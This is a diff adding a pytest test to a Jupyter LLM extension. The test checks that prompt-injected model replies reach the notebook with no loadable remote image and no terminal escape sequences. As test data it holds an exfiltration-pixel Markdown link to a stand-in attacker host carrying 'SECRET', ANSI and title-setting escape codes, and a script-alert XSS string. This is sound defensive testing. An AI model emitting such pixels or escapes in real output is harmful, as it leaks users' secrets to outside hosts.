@@ -11,6 +11,7 @@ from __future__ import annotations
 import re
 
 import pytest
+from markdown_it import MarkdownIt
 from support import Kernel, kernel_environment, kernel_value as value, raw_html
 
 import jupyter_llm
@@ -248,3 +249,25 @@ def test_model_written_html_never_reaches_the_page_live(kk, emulator):
     markdown = [m["content"]["data"]["text/markdown"] for m in front_end
                 if m["msg_type"] == "display_data" and "text/markdown" in m["content"]["data"]]
     assert markdown and "&lt;script>alert(1)&lt;/script>" in markdown[-1], "shown as text, not dropped"
+
+
+def test_model_output_loads_no_remote_image_and_sends_no_terminal_escapes(kk, emulator):
+    """A prompt-injected reply can write an exfiltration pixel, and escape sequences that a
+    terminal front end acts on; the emulator quotes the prompt, so the model writes both."""
+    exfil = "https://attacker.example/p.png?q=SECRET"
+    prompt = f"![pixel]({exfil}) \x1b[31mred\x1b[0m \x1b]0;pwned\x07 ![dot](data:image/png;base64,iVBORw0KGgo=)"
+    kk.run("jupyter_llm.session.extra_headers = {'X-Emulator': 'rate=200'}")
+    result = kk.run(f"prompt = {prompt!r}\nr = jupyter_llm.ask(prompt, model={MODEL!r})")
+    assert result.error is None, result.error
+    assert exfil in value(kk, "r.content") and "\x1b[31m" in value(kk, "r.content"), "the model wrote them"
+    sent = result.text()
+    assert "\\u001b" not in sent and "\\u0007" not in sent, "no escape sequence reaches the front end"
+    assert exfil in sent and not re.search(r'<img[^>]*src=\\?"https', sent), "the pixel is a link"
+    markdown = [m["content"]["data"]["text/markdown"] for m in result.messages
+                if m["msg_type"] == "display_data" and "text/markdown" in m["content"]["data"]]
+    assert markdown and "<img" not in MarkdownIt("commonmark").render(markdown[-1]), "no image to load"
+    kk.run("%llm_config remote_images=true")
+    again = kk.run("r = jupyter_llm.ask(prompt + ' again', model='qwen72b-awq')")
+    shown = [m["content"]["data"]["text/markdown"] for m in again.messages
+             if m["msg_type"] == "display_data" and "text/markdown" in m["content"]["data"]]
+    assert f"![pixel]({exfil})" in shown[-1], "allowed by the setting, the image is Markdown again"
